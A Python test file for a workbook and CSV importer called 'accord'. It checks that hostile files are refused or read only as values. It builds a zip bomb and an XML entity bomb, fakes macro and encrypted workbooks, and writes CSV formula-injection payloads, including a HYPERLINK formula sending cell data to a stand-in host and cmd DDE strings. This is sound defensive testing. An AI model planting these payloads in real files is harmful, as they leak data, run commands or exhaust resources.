"""Hostile files: a zip bomb, a huge sheet, formulas, macros, encryption, an XML entity
bomb, and CSV formula injection. Each is refused with a message saying what to do, or
read as values only; nothing is recorded from a refused file."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import openpyxl
import pytest

from accord.application.workbooks import Row
from accord.cli import main
from accord.web.workbook_files import Limits, UnreadableFile, read_workbook
from tests.support.workbooks import fill

FORM = {"occurredAt": "2024-01-01", "name": "Harbour", "purpose": "Care at home"}
PARTNER = {"occurredAt": "2024-01-02", "partnerId": "city", "name": "City", "sector": "OTHER"}
DECISION = {
    "occurredAt": "2024-02-01",
    "title": "Pool the budgets",
    "category": "RESOURCING",
    "method": "CONSENSUS",
    "decidedBy": "city",
}


def accord(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def refused_file(path: Path, url: str) -> str:
    code, out, err = accord("import", str(path), "--database", url)
    assert (code, out) == (2, ""), err
    assert accord("verify", "--database", url)[:2] == (0, "")
    return err


def good(tmp_path: Path, name: str = "good.xlsx") -> Path:
    return fill(
        tmp_path / name,
        {"formPartnership": [FORM], "joinPartner": [PARTNER], "recordDecision": [DECISION]},
    )


def with_member(source: Path, target: Path, name: str, data: bytes) -> Path:
    target.write_bytes(source.read_bytes())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return target


def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path, sqlite_url: str) -> None:
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(good(tmp_path).read_bytes())
    zeros = bytes(8 * 1024 * 1024)
    with (
        zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/image1.bin", "w") as member,
    ):
        for _ in range(26):  # 208 MiB of zeros, some 200 KiB packed
            member.write(zeros)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    started = time.perf_counter()
    err = refused_file(bomb, sqlite_url)
    assert time.perf_counter() - started < 5
    assert "bomb.xlsx unpacks to 208 MiB: at most 200 MiB is read (a zip bomb" in err


def test_a_huge_sheet_is_read_as_far_as_its_rows_and_no_further(
    tmp_path: Path, sqlite_url: str
) -> None:
    # One value at Excel's last row: 1,048,575 empty rows before it are skipped quickly.
    path = good(tmp_path)
    book = openpyxl.load_workbook(path)
    book["Record a decision"]["C1048576"] = "A decision far below"
    book.save(path)
    started = time.perf_counter()
    code, out, _ = accord("import", str(path), "--database", sqlite_url)
    assert time.perf_counter() - started < 30
    assert code == 1
    assert (
        out.splitlines()[0]
        == "'Record a decision'!A1048576: occurredAt: VALIDATION: is required in a workbook: "
        "when the entry happened"
    )


def test_more_rows_than_the_limit_are_refused_whole(tmp_path: Path) -> None:
    decisions = [{**DECISION, "title": f"Decision {n}"} for n in range(30)]
    path = fill(tmp_path / "many.xlsx", {"formPartnership": [FORM], "recordDecision": decisions})
    rows: list[Row] = read_workbook(path.read_bytes(), limits=Limits(rows=31))
    assert len(rows) == 31
    with pytest.raises(
        UnreadableFile,
        match=r"more than 30 entries: split the file \(sheet 'Record a decision', row 32\)",
    ):
        read_workbook(path.read_bytes(), limits=Limits(rows=30))


def test_a_formula_is_read_as_its_value_never_its_code(tmp_path: Path, sqlite_url: str) -> None:
    path = good(tmp_path)
    book = openpyxl.load_workbook(path)
    book["Record a decision"]["C3"] = '=CONCAT("Pool"," the budgets")'  # a formula cell
    book["Record a decision"]["J3"] = "=1+1"  # a formula never calculated: no value
    book.save(path)
    # Give C3 the value a spreadsheet would have cached when it last calculated.
    cached = tmp_path / "cached.xlsx"
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(cached, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet10.xml":
                formula = b'<c r="C3"><f>CONCAT("Pool"," the budgets")</f><v /></c>'
                assert formula in data
                data = data.replace(
                    formula,
                    b'<c r="C3" t="str"><f>CONCAT("Pool"," the budgets")</f>'
                    b"<v>Pool the budgets</v></c>",
                )
            new.writestr(item, data)
    code, out, _ = accord("import", str(cached), "--database", sqlite_url)
    assert code == 0, out
    _, lines, _ = accord("export", out.strip(), "--database", sqlite_url)
    decision = json.loads(lines.splitlines()[-1])["data"]
    assert decision["title"] == "Pool the budgets"
    assert decision["rationale"] is None  # =1+1 had no value: nothing of its code is kept
    assert "CONCAT" not in lines and "1+1" not in lines


@pytest.mark.parametrize("suffix", [".xlsm", ".xltm", ".xlsb"])
def test_a_macro_enabled_workbook_is_refused_by_its_name(
    tmp_path: Path, sqlite_url: str, suffix: str
) -> None:
    path = tmp_path / f"registers{suffix}"
    path.write_bytes(good(tmp_path).read_bytes())
    assert "is a macro-enabled workbook: macros are never opened" in refused_file(path, sqlite_url)


def test_a_workbook_holding_a_vba_project_is_refused(tmp_path: Path, sqlite_url: str) -> None:
    path = with_member(good(tmp_path), tmp_path / "innocent.xlsx", "xl/vbaProject.bin", b"\0" * 64)
    assert "contains macros (a VBA project): macros are never opened" in refused_file(
        path, sqlite_url
    )


def test_a_macro_enabled_content_type_is_refused(tmp_path: Path, sqlite_url: str) -> None:
    source = good(tmp_path)
    path = tmp_path / "typed.xlsx"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"spreadsheetml.sheet.main+xml",
                    b"ms-excel.sheet.macroEnabled.main+xml",
                )
            new.writestr(item, data)
    assert "is a macro-enabled workbook" in refused_file(path, sqlite_url)


def test_an_encrypted_workbook_is_refused(tmp_path: Path, sqlite_url: str) -> None:
    # Excel saves a password-protected workbook as an OLE2 compound file, not a zip.
    path = tmp_path / "secret.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    assert "secret.xlsx is encrypted (password-protected) or an old .xls workbook" in refused_file(
        path, sqlite_url
    )


def test_an_xml_entity_bomb_is_refused(tmp_path: Path, sqlite_url: str) -> None:
    source = good(tmp_path)
    path = tmp_path / "laughs.xlsx"
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/workbook.xml":
                data = lol + (data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data)
            new.writestr(item, data)
    assert "laughs.xlsx cannot be read as a workbook: its XML declares entities" in refused_file(
        path, sqlite_url
    )


def test_a_file_that_is_no_workbook_is_refused(tmp_path: Path, sqlite_url: str) -> None:
    path = tmp_path / "notes.xlsx"
    path.write_text("just some notes")
    assert "notes.xlsx is not an .xlsx workbook" in refused_file(path, sqlite_url)


def test_csv_formula_injection_is_stored_as_text_and_exported_escaped(
    tmp_path: Path, sqlite_url: str
) -> None:
    code, out, _ = accord("import", str(good(tmp_path)), "--database", sqlite_url)
    pid = out.strip()
    titles = [
        '=HYPERLINK("http://example.invalid/?d="&A1,"Click me")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    path = tmp_path / "injected.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["occurredAt", "title", "category", "method", "decidedBy"])
        for title in titles:
            writer.writerow(["2024-03-01", title, "DELIVERY", "CONSENSUS", "city"])
    code, out, err = accord(
        "import",
        str(path),
        "--kind",
        "recordDecision",
        "--partnership",
        pid,
        "--database",
        sqlite_url,
    )
    assert (code, out) == (0, pid + "\n"), err
    _, lines, _ = accord("export", pid, "--database", sqlite_url)
    stored = [json.loads(line)["data"]["title"] for line in lines.splitlines()[-4:]]
    assert stored == titles  # exactly the text, never run
    _, text, _ = accord("export", pid, "--format", "csv", "--database", sqlite_url)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    xlsx = tmp_path / "out.xlsx"
    accord("export", pid, "--format", "xlsx", "--output", str(xlsx), "--database", sqlite_url)
    decisions = openpyxl.load_workbook(xlsx)["Decisions"]
    written = [(row[2].value, row[2].data_type) for row in decisions.iter_rows(min_row=3)]
    assert written == [(title, "s") for title in titles]
